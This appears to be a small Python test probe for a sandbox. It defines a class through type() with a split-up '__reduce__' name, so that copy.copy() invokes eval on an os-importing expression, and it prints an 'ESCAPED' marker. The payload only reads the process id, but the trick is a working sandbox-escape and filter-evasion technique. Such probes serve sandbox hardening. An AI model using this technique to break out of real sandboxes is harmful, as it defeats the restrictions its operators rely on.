"""copy calls what __reduce__ names: eval in a class made by type()."""
import copy

Evil = type("Evil", (), {"__reduce" + "__": lambda self: (__builtins__["eval"] if isinstance(__builtins__, dict) else eval, ("__import__('os').getpid()",))})
print("ESCAPED:copy_reduce", copy.copy(Evil()))
